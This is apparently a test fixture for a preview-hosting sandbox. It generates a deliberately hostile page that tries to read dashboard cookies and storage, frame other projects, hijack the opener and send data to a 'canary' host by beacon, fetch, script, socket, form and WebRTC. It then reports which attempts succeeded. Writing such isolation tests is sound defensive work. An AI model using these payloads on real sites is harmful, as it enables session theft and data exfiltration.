// The page of a preview that means ill to who looks at it. Each thing it gets is told at the end.
// Runs in the page.
const tries = `const tries = {
  'the cookies of the dashboard': () => 'GOT ' + document.cookie,
  'the storage of the dashboard': () => 'GOT ' + JSON.stringify(localStorage),
  'an answer of the dashboard': async () => 'GOT ' + await (await fetch(dashboard + '/v1/models', { credentials: 'include' })).text(),
  'the dashboard in a frame': async () => 'GOT ' + (await frame(dashboard + '/healthz')).contentDocument.body.innerText,
  'the storage of a framed dashboard': async () => 'GOT ' + JSON.stringify((await frame(dashboard + '/healthz')).contentWindow.localStorage),
  'the page of another project in a frame': async () => 'GOT ' + (await frame(other)).contentDocument.body.innerText,
  'an answer of another project': async () => 'GOT ' + await (await fetch(other)).text(),
  'a domain above its own': () => { document.domain = 'localhost'; return 'GOT ' + document.domain; },
  'the domain of all previews': () => {
    document.domain = location.hostname.replace(/^p-\\w+\\./, '');
    if (document.domain.startsWith('p-')) throw new Error('it stays as it is');
    return 'GOT ' + document.domain;
  },
  'a cookie for the dashboard': () => { document.cookie = 'tossed=1; domain=localhost; path=/'; },
  'who opened it': () => { window.opener.location = canary + 'opener'; return 'GOT the opener'; },
  'what is in who opened it': () => 'GOT ' + window.opener.document.cookie,
  'a service worker': async () => { await navigator.serviceWorker.register('/sw.js'); return 'GOT a worker'; },
  'a request to outside': async () => 'GOT ' + await (await fetch(canary + 'fetch', { mode: 'no-cors' })).text(),
  'a beacon to outside': () => { navigator.sendBeacon(canary + 'beacon', document.cookie); },
  'a picture from outside': () => { new Image().src = canary + 'picture'; },
  'a script from outside': () => { document.body.append(Object.assign(document.createElement('script'), { src: canary + 'script' })); },
  'a style from outside': () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: canary + 'style' })); },
  'a module from outside': () => import(canary + 'module'),
  'a stream of events from outside': () => { new EventSource(canary + 'events'); },
  'a socket to outside': () => { new WebSocket(canary.replace('http', 'ws') + 'socket'); },
  'a frame from outside': () => { document.body.append(Object.assign(document.createElement('iframe'), { src: canary + 'frame' })); },
  'a form sent to outside': () => {
    const form = Object.assign(document.createElement('form'), { action: canary + 'form', method: 'post', target: 'sink' });
    document.body.append(form, Object.assign(document.createElement('iframe'), { name: 'sink' }));
    form.submit();
  },
  'a connection made beforehand': () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: canary })); },
  'a page fetched beforehand': () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: canary + 'prefetch' })); },
  'a call over WebRTC': async () => {
    const urls = canary.replace('http://', 'turn:').slice(0, -1) + '?transport=tcp';
    const one = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] });
    one.createDataChannel('x');
    await one.setLocalDescription(await one.createOffer());
  },
  'a window to outside': () => { window.open(canary + 'window'); },
  'an object from outside': () => { document.body.append(Object.assign(document.createElement('object'), { data: canary + 'object' })); },
  'a camera': () => allowed('camera'),
  'a place on earth': () => allowed('geolocation'),
  'a payment': () => allowed('payment'),
};`;

export const hostilePage = ({ dashboard, canary, other }) => `<!doctype html>
<html><head><title>Trying</title></head><body><h1>Hello</h1><pre id="told"></pre><script>
const dashboard = ${JSON.stringify(dashboard)};
const canary = ${JSON.stringify(canary)};
const other = ${JSON.stringify(other)};
const told = {};
const late = (ms) => new Promise((resolve) => setTimeout(resolve, ms, 'hung'));
const allowed = (what) => {
  if (!document.featurePolicy.allowsFeature(what)) throw new Error('not allowed');
  return 'GOT ' + what;
};
const frame = (src) => new Promise((resolve) => {
  const one = document.createElement('iframe');
  one.onload = () => resolve(one);
  one.src = src;
  document.body.append(one);
});
${tries}
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { told[name] = String(await Promise.race([attempt(), late(1500)])); }
    catch (error) { told[name] = 'failed: ' + error.message; }
  }
  document.getElementById('told').textContent = JSON.stringify(told);
  document.title = 'Tried';
})();
</script></body></html>`;

const rulesFor = (canary) =>
  JSON.stringify({ prefetch: [{ urls: [`${canary}speculation`] }], prerender: [{ urls: [`${canary}prerender`] }] });

/** Without an opener: a browser fetches and renders nothing beforehand for a page that has one. */
export const leavingPage = ({ canary }) => `<!doctype html><html><head><title>Leaving</title>
<script type="speculationrules">${rulesFor(canary)}</script></head><body><h1>Leaving</h1><script>
setTimeout(() => { location.href = ${JSON.stringify(`${canary}leaving`)}; }, 700);
</script></body></html>`;
